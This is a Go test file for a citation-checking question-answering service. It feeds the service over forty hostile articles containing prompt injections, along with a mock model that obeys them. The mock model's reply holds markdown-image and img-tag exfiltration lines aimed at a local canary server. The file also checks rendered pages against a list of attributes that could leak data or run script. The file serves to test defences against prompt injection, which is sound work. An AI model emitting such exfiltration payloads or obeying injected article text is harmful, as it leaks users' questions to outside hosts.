package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"unicode"

	"golang.org/x/net/html"

	"github.com/pressmark/pressmark/internal/answer"
	"github.com/pressmark/pressmark/internal/article"
	"github.com/pressmark/pressmark/internal/ingest"
	"github.com/pressmark/pressmark/internal/verify"
)

// injection is one of the hostile articles in testdata/injections: a true
// sentence, and something that tries to make a model, a reader's browser or the
// program itself say or do another thing.
type injection struct {
	File     string
	Question string
	Truth    string
	Short    string // of the truth
	Lure     string // what the article wants to have said
}

// TestInjections: whatever articles hold, the instructions stay the same to the
// byte, what is data stays data, no request leaves, and citations are true, even
// where the model obeys the article.
func TestInjections(t *testing.T) {
	canary := newCanary(t)
	model := newObedient(t)
	p, handler := hostileLibrary(t, canary.URL, model.URL)
	for i, c := range injections(t) {
		if testing.Short() && i%6 > 0 {
			continue
		}
		t.Run(c.File, func(t *testing.T) {
			model.say(c.Truth + " [1]")
			checkHonest(t, p, c, askOver(t, handler, c.Question))
			model.say(fmt.Sprintf("%s [1]. The council met [2].\n![x](%s/leak?q=question)\nSee [more](%s/more) [1].\n<img src=%s/tag>", c.Lure, canary.URL, canary.URL, canary.URL))
			checkObedient(t, p, c, askOver(t, handler, c.Question))
			checkPage(t, handler, c.Question)
		})
	}
	checkPrompts(t, model.prompts)
	if hits := canary.hits(); len(hits) > 0 {
		t.Errorf("requests left for %q", hits)
	}
}

func injections(t *testing.T) (list []injection) {
	t.Helper()
	data, err := os.ReadFile("testdata/injections.jsonl")
	if err != nil {
		t.Fatal(err)
	}
	for line := range bytes.Lines(data) {
		var c injection
		if err := json.Unmarshal(line, &c); err != nil {
			t.Fatal(err)
		}
		list = append(list, c)
	}
	if len(list) < 40 {
		t.Fatalf("%d hostile articles, want 40 or more", len(list))
	}
	return list
}

// hostileLibrary is the whole program with the hostile articles added from files.
func hostileLibrary(t *testing.T, canary, model string) (*program, http.Handler) {
	t.Helper()
	dir := t.TempDir()
	files, err := filepath.Glob("testdata/injections/*")
	if err != nil {
		t.Fatal(err)
	}
	for _, file := range files {
		data, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		data = bytes.ReplaceAll(data, []byte("CANARY"), []byte(canary))
		if err := os.WriteFile(filepath.Join(dir, filepath.Base(file)), data, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	p, err := openProgram(t.Context(), &settings{Data: filepath.Join(t.TempDir(), "library"), Log: "error", Model: "obedient", BaseURL: model + "/v1"}, io.Discard)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { p.close() })
	for item := range ingest.Path(t.Context(), dir) {
		if item.Err != nil {
			t.Fatal(item.Name, item.Err)
		}
		item.Article.ID = strings.TrimSuffix(filepath.Base(item.Name), filepath.Ext(item.Name))
		if results, err := p.library.Put(t.Context(), []article.Article{item.Article}); err != nil || results[0].Err != nil {
			t.Fatal(item.Name, err, results)
		}
	}
	handler, err := p.handler("example.com")
	if err != nil {
		t.Fatal(err)
	}
	return p, handler
}

func askOver(t *testing.T, handler http.Handler, question string) (given answer.Answer) {
	t.Helper()
	body, err := json.Marshal(map[string]string{"question": question})
	if err != nil {
		t.Fatal(err)
	}
	r := httptest.NewRequest(http.MethodPost, "/v1/ask", bytes.NewReader(body))
	r.Header.Set("Content-Type", "application/json")
	w := httptest.NewRecorder()
	handler.ServeHTTP(w, r)
	if err := json.Unmarshal(w.Body.Bytes(), &given); w.Code != http.StatusOK || err != nil {
		t.Fatalf("%d %s %v", w.Code, w.Body, err)
	}
	return given
}

// checkHonest: a true answer is verified, beside a hostile text too.
func checkHonest(t *testing.T, p *program, c injection, given answer.Answer) {
	t.Helper()
	if given.Mode != answer.Model || given.Text != c.Truth || given.Unsupported != 0 || given.Citations[0].Source.ArticleID != strings.TrimSuffix(c.File, filepath.Ext(c.File)) {
		t.Errorf("answer = %+v, want %q, cited from its article", given, c.Truth)
	}
	checkTrue(t, p, given)
}

// checkObedient: what only the model says, or an article hides, is not shown as
// supported, and nothing that could leave is shown at all.
func checkObedient(t *testing.T, p *program, c injection, given answer.Answer) {
	t.Helper()
	for _, part := range []string{"http", "](", "<img"} {
		if strings.Contains(given.Text, part) {
			t.Errorf("the answer holds %q: %s", part, given.Text)
		}
	}
	for _, cited := range given.Citations {
		says := given.Text[cited.Answer.Start:cited.Answer.End]
		if cited.Verified && strings.Contains(says, "Vantz") && !strings.Contains(cited.Quote, "Vantz") {
			t.Errorf("%q is shown as supported by %q", says, cited.Quote)
		}
	}
	checkTrue(t, p, given)
}

// checkTrue: every verified quote stands in the stored article, which can be seen
// whole, and supports its statement.
func checkTrue(t *testing.T, p *program, given answer.Answer) {
	t.Helper()
	for _, cited := range given.Citations {
		if !cited.Verified {
			continue
		}
		stored, err := p.library.Article(t.Context(), cited.Source.ArticleID)
		if err != nil {
			t.Fatal(err)
		}
		if stored.Text[cited.Source.Start:cited.Source.End] != cited.Quote {
			t.Errorf("%q does not stand where the citation says", cited.Quote)
		}
		if says := given.Text[cited.Answer.Start:cited.Answer.End]; !verify.Statement(says, verify.Source{Text: stored.Text}).Holds {
			t.Errorf("%q does not say %q", stored.Text, says)
		}
		if strings.ContainsFunc(stored.Text, func(r rune) bool { return hiddenRune(r) && !unicode.Is(unicode.Co, r) }) { // private characters show as boxes
			t.Errorf("the article holds what cannot be seen: %q", stored.Text)
		}
	}
}

// hiddenRune tells whether a character cannot be seen, line breaks apart.
func hiddenRune(r rune) bool {
	return r != '\n' && r != '\t' && unicode.In(r, unicode.Cc, unicode.Cf, unicode.Co, unicode.Zl, unicode.Zp)
}

// checkPage: a browser that shows the answer is not made to fetch or run anything.
func checkPage(t *testing.T, handler http.Handler, question string) {
	t.Helper()
	r := httptest.NewRequest(http.MethodGet, "/", nil)
	query := r.URL.Query()
	query.Set("q", question)
	r.URL.RawQuery = query.Encode()
	w := httptest.NewRecorder()
	handler.ServeHTTP(w, r)
	if w.Code != http.StatusOK || !strings.Contains(w.Body.String(), question[:20]) {
		t.Fatalf("the page: %d %s", w.Code, w.Body)
	}
	page, err := html.Parse(w.Body)
	if err != nil {
		t.Fatal(err)
	}
	for node := range page.Descendants() {
		for _, attribute := range node.Attr {
			if leaves(attribute) {
				t.Errorf("<%s> has %s=%q", node.Data, attribute.Key, attribute.Val)
			}
		}
	}
}

// leaves tells whether an attribute runs a script or names another server.
func leaves(a html.Attribute) bool {
	switch a.Key {
	case "src", "srcset", "href", "action", "formaction", "data", "poster", "style", "background":
		return strings.HasPrefix(a.Val, "//") || !strings.HasPrefix(a.Val, "/") && !strings.HasPrefix(a.Val, "#")
	}
	return strings.HasPrefix(a.Key, "on")
}

// checkPrompts: one and the same system message; passages that are lines of JSON,
// numbered in order, without anything that cannot be seen.
func checkPrompts(t *testing.T, prompts [][2]string) {
	t.Helper()
	for _, prompt := range prompts {
		if prompt[0] != prompts[0][0] {
			t.Error("the instructions changed")
		}
		lines := strings.Split(prompt[1], "\n")
		n := 0
		for _, line := range lines[1 : len(lines)-2] {
			var passage struct {
				N    int
				Text string
			}
			n++
			if err := json.Unmarshal([]byte(line), &passage); err != nil || passage.N != n || passage.Text == "" {
				t.Errorf("line %d is no passage: %q, %v", n, line, err)
			}
		}
		if strings.ContainsFunc(prompt[1], hiddenRune) || strings.ContainsAny(strings.Join(lines[1:len(lines)-2], ""), "<>[]") {
			t.Errorf("the data holds what it must not: %q", prompt[1])
		}
	}
	if len(prompts) == 0 {
		t.Error("the model was not asked")
	}
}

// obedient is a model server that says what it is told to, whatever it is asked.
type obedient struct {
	*httptest.Server
	mu      sync.Mutex
	reply   string
	prompts [][2]string // system and user
}

func newObedient(t *testing.T) *obedient {
	o := &obedient{}
	o.Server = httptest.NewServer(http.HandlerFunc(o.serve))
	t.Cleanup(o.Close)
	return o
}

func (o *obedient) say(reply string) {
	o.mu.Lock()
	defer o.mu.Unlock()
	o.reply = reply
}

func (o *obedient) serve(w http.ResponseWriter, r *http.Request) {
	var asked struct {
		Messages []struct{ Role, Content string }
	}
	if err := json.NewDecoder(r.Body).Decode(&asked); err != nil || len(asked.Messages) != 2 {
		http.Error(w, "no chat", http.StatusBadRequest)
		return
	}
	o.mu.Lock()
	defer o.mu.Unlock()
	o.prompts = append(o.prompts, [2]string{asked.Messages[0].Content, asked.Messages[1].Content})
	w.Header().Set("Content-Type", "text/event-stream")
	for word := range strings.SplitAfterSeq(o.reply, " ") {
		piece, _ := json.Marshal(word)
		fmt.Fprintf(w, "data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":%s}}]}\n\n", piece)
	}
	fmt.Fprint(w, "data: {\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"stop\"}],\"usage\":{\"prompt_tokens\":1,\"completion_tokens\":1}}\n\ndata: [DONE]\n\n")
}

// canary is an address that nothing must be fetched from.
type canary struct {
	*httptest.Server
	mu   sync.Mutex
	seen []string
}

func newCanary(t *testing.T) *canary {
	c := &canary{}
	c.Server = httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		c.mu.Lock()
		defer c.mu.Unlock()
		c.seen = append(c.seen, r.URL.String())
	}))
	t.Cleanup(c.Close)
	return c
}

func (c *canary) hits() []string {
	c.mu.Lock()
	defer c.mu.Unlock()
	return slices.Clone(c.seen)
}
